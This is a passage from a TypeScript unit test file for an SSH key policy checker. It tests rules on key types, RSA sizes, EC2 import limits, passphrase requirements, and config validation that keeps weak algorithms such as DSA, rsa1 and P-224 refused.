            { type: "RSA", bits: 8192 },
        ]) {
            assert.deepStrictEqual(judgeKeySpec(s), [], JSON.stringify(s));
        }
        assert.deepStrictEqual(DEFAULT_KEY_RULES.allowedTypes, ["ed25519", "ecdsa", "rsa", "sk-ed25519", "sk-ecdsa"]);
    });

    it("ec2ImportRsaBits is a minimum among the sizes EC2 imports: 4096 allows 4096 only, 2048 allows 2048 and 4096", () => {
        const ec2 = { ec2Import: true };
        assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 4096 }, undefined, ec2), []);
        assert.match(
            judgeKeySpec({ type: "rsa", bits: 2048 }, undefined, ec2).join(),
            /needs rsa of exactly 4096 bits/,
        );
        assert.deepStrictEqual(
            judgeKeySpec({ type: "rsa", bits: 2048 }, { ec2ImportRsaBits: 2048, minRsaBits: 2048 }, ec2),
            [],
        );
        assert.deepStrictEqual(
            judgeKeySpec({ type: "rsa", bits: 4096 }, { ec2ImportRsaBits: 2048 }, ec2),
            [],
            "a generated rsa-4096 key passes a 2048 minimum",
        );
        assert.match(
            judgeKeySpec({ type: "rsa", bits: 3072 }, { ec2ImportRsaBits: 2048 }, ec2).join(),
            /needs rsa of 2048 or 4096 bits/,
            "EC2 cannot import 3072",
        );
        assert.match(
            judgeKeySpec({ type: "rsa", bits: 1024 }, { ec2ImportRsaBits: 2048 }, ec2).join(),
            /not allowed for EC2 import/,
        );
    });

    it("judges specs the way tls.PrivateKey and aws describe keys", () => {
        assert.deepStrictEqual(judgeKeySpec({ type: "ECDSA", curve: "P256" }), []);
        assert.deepStrictEqual(judgeKeySpec({ type: "ecdsa", bits: 384 }), []);
        assert.match(judgeKeySpec({ type: "ECDSA", curve: "P224" }).join(), /curve nistp224 is not allowed/);
        assert.match(judgeKeySpec({ type: "ssh-dss", bits: 1024 }).join(), /dsa keys are not allowed/);
        assert.match(
            judgeKeySpec({ type: "RSA", bits: 2048 }, undefined, { label: "tls.PrivateKey k" }).join(),
            /^tls.PrivateKey k: rsa-2048 is too small/,
        );
    });

    it("refuses an rsa or ecdsa spec whose size is not given", () => {
        assert.match(judgeKeySpec({ type: "rsa" }).join(), /RSA key size is not given/);
        assert.match(judgeKeySpec({ type: "ecdsa" }).join(), /curve is not given/);
    });

    it("EC2 import: ed25519 and rsa-4096 only", () => {
        assert.deepStrictEqual(judgeKeySpec({ type: "ed25519" }, undefined, { ec2Import: true }), []);
        assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 4096 }, undefined, { ec2Import: true }), []);
        assert.match(
            judgeKeySpec({ type: "rsa", bits: 8192 }, undefined, { ec2Import: true }).join(),
            /rsa-8192 is not allowed for EC2 import/,
        );
        assert.match(
            judgeKeySpec({ type: "ecdsa", curve: "nistp256" }, undefined, { ec2Import: true }).join(),
            /EC2 can import only rsa and ed25519/,
        );
    });

    it("a service account's private key may lack a passphrase; a person's may not", () => {
        const info = parseKey(ed.privateKey);
        assert.match(judgeKey(info).join(), /must be passphrase-protected/);
        assert.deepStrictEqual(judgeKey(info, undefined, { service: true }), []);
        assert.deepStrictEqual(judgeKey(info, { requirePassphrase: false }), []);
        assert.deepStrictEqual(judgeKey(parseKey(encryptPrivateKey(ed.privateKey, "pw"))), []);
    });

    it("reads the policy pack config and tightens the rules", () => {
        const rules = keyRulesFromPolicyConfig({
            "ssh-key-algorithm": {
                enforcementLevel: "mandatory",
                allowedTypes: ["ssh-ed25519", "rsa"],
                minRsaBits: 4096,
                allowedCurves: ["P-384"],
            },
            "ssh-key-passphrase": { requirePassphrase: false },
            "other-rule": { whatever: 1 },
        });
        assert.deepStrictEqual(rules, {
            allowedTypes: ["ed25519", "rsa"],
            minRsaBits: 4096,
            allowedCurves: ["nistp384"],
            requirePassphrase: false,
        });
        assert.match(
            judgeKey(parsePublicKey(rsa3072.publicKey), rules).join(),
            /rsa-3072 is too small.*expected ed25519 or rsa of at least 4096 bits/,
        );
        assert.match(judgeKey(parsePublicKey(ec256.publicKey), rules).join(), /ecdsa nistp256 keys are not allowed/);
        assert.deepStrictEqual(keyRulesFromPolicyConfig({}), {});
        assert.deepStrictEqual(keyRulesFromPolicyConfig({ "ssh-key-algorithm": "advisory" }), {});
    });

    it("refuses a bad policy config with the field named", () => {
        assert.throws(() => keyRulesFromPolicyConfig([]), /must be a JSON object/);
        assert.throws(
            () => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { minRsaBits: "big" } }),
            /'ssh-key-algorithm.minRsaBits' must be an integer/,
        );
        assert.throws(
            () => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { allowedTypes: "rsa" } }),
            /'ssh-key-algorithm.allowedTypes' must be an array of strings/,
        );
        assert.throws(
            () => keyRulesFromPolicyConfig({ "ssh-key-algorithm": { ec2ImportRsaBits: 3072 } }),
            /'ssh-key-algorithm.ec2ImportRsaBits' must be 2048 or 4096: the RSA sizes EC2 imports \(1024, 2048, 4096\)/,
        );
        assert.throws(
            () => keyRulesFromPolicyConfig({ "ssh-key-passphrase": { requirePassphrase: "yes" } }),
            /requirePassphrase' must be true or false/,
        );
    });

    it("a config cannot re-allow what is never allowed: the field and what it accepts are named", () => {
        const bad: [Record<string, unknown>, RegExp][] = [
            [
                { allowedTypes: ["ed25519", "dsa"] },
                /'ssh-key-algorithm.allowedTypes' lists "dsa", which is never allowed \(DSA .*\); accepted: any of ed25519, ecdsa, rsa, sk-ed25519, sk-ecdsa$/,
            ],
            [{ allowedTypes: ["ssh-dss"] }, /'ssh-key-algorithm.allowedTypes' lists "ssh-dss", which is never allowed/],
            [
                { allowedTypes: ["rsa1"] },
                /'ssh-key-algorithm.allowedTypes' lists "rsa1", which is never allowed \(SSH protocol 1/,
            ],
            [
                { allowedTypes: ["rsa", "blowfish"] },
                /'ssh-key-algorithm.allowedTypes' lists "blowfish", which is not a key type the rules know; accepted: any of ed25519, ecdsa, rsa/,
            ],
            [
                { allowedTypes: ["sk-ssh-ed25519@openssh.com", "sk-rsa"] },
                /lists "sk-rsa", which is not a key type the rules know; accepted: any of ed25519, ecdsa, rsa, sk-ed25519, sk-ecdsa/,
            ],
            [
                { allowedCurves: ["nistp256", "nistp224"] },
                /'ssh-key-algorithm.allowedCurves' lists "nistp224", which is never allowed \(P-224 .*\); accepted: any of nistp256, nistp384, nistp521/,
            ],
            [{ allowedCurves: ["P-224"] }, /lists "P-224", which is never allowed/],
            [
                { allowedCurves: ["curve25519"] },
                /'ssh-key-algorithm.allowedCurves' lists "curve25519", which is not an ecdsa curve the rules know/,
            ],
            [
                { minRsaBits: 1024 },
                /'ssh-key-algorithm.minRsaBits' must be an integer between 2048 and 16384 \(RSA-2048 is the weakest NIST accepts through 2030\); got 1024/,
            ],
            [{ minRsaBits: 2047 }, /'ssh-key-algorithm.minRsaBits' must be an integer between 2048/],
            [{ ec2ImportRsaBits: 1024 }, /'ssh-key-algorithm.ec2ImportRsaBits' must be 2048 or 4096.*got 1024/],
        ];
        for (const [alg, re] of bad)
            assert.throws(() => keyRulesFromPolicyConfig({ "ssh-key-algorithm": alg }), re, JSON.stringify(alg));
        // the floor and both EC2 sizes above it are fine
        assert.deepStrictEqual(
            keyRulesFromPolicyConfig({ "ssh-key-algorithm": { minRsaBits: 2048, ec2ImportRsaBits: 2048 } }),
            { minRsaBits: 2048, ec2ImportRsaBits: 2048 },
        );
        assert.deepStrictEqual(keyRulesFromPolicyConfig({ "ssh-key-algorithm": { ec2ImportRsaBits: 4096 } }), {
            ec2ImportRsaBits: 4096,
        });
    });

    it("judges dsa, rsa1 and P-224 as never allowed whatever the rules passed in say", () => {
        const loose = {
            allowedTypes: ["ed25519", "ecdsa", "rsa", "dsa", "rsa1", "sk-ed25519"],
            allowedCurves: ["nistp224", "nistp256"],
            minRsaBits: 512,
            ec2ImportRsaBits: 1024,
        };
        assert.match(judgeKeySpec({ type: "ssh-dss", bits: 1024 }, loose).join(), /dsa-?.* keys are not allowed \(DSA/);
        assert.match(
            judgeKeySpec({ type: "rsa1", bits: 2048 }, loose).join(),
            /rsa1.* keys are not allowed \(SSH protocol 1/,
        );
        assert.match(
            judgeKeySpec({ type: "ecdsa", curve: "P-224" }, loose).join(),
            /ecdsa curve nistp224 is not allowed \(P-224/,
        );
        // security keys are known types: allowed when listed, refused (naming the setting) when not
        assert.deepStrictEqual(judgeKeySpec({ type: "sk-ed25519" }, loose), []);
        assert.match(
            judgeKeySpec({ type: "sk-ecdsa-sha2-nistp256@openssh.com" }, loose).join(),
            /sk-ecdsa keys are not allowed; .*\(allowedTypes lists ed25519, ecdsa, rsa, sk-ed25519\)\.$/,
        );
        assert.match(
            judgeKeySpec({ type: "rsa", bits: 1024 }, loose).join(),
            /rsa-1024 is too small \(the rules require at least 2048 bits\)/,
        );
        assert.match(
            judgeKeySpec({ type: "rsa", bits: 1024 }, loose, { ec2Import: true }).join(),
            /rsa-1024 is not allowed for EC2 import/,
        );
        assert.deepStrictEqual(judgeKeySpec({ type: "rsa", bits: 2048 }, loose), []);
        assert.deepStrictEqual(judgeKeySpec({ type: "ecdsa", curve: "nistp256" }, loose), []);
    });

    it("the too-small message cites the configured minimum, not the default", () => {
        const v = judgeKeySpec({ type: "rsa", bits: 3072 }, { minRsaBits: 4096 }).join();
        assert.match(v, /rsa-3072 is too small \(the rules require at least 4096 bits\)/);
        assert.doesNotMatch(v, /3072 bits/);
    });

    it("normalizes a key line: one line, no options, comment kept", () => {
        const info = parsePublicKey(`  ${ed.publicKey}   \n`, "k");
        assert.strictEqual(info.publicKey, ed.publicKey);
        assert.strictEqual(info.comment, "alice@laptop");
        const bare = parsePublicKey(ed.publicKey.split(" ").slice(0, 2).join(" "));
        assert.strictEqual(bare.comment, "");
        assert.strictEqual(bare.publicKey, ed.publicKey.split(" ").slice(0, 2).join(" "));
    });
});
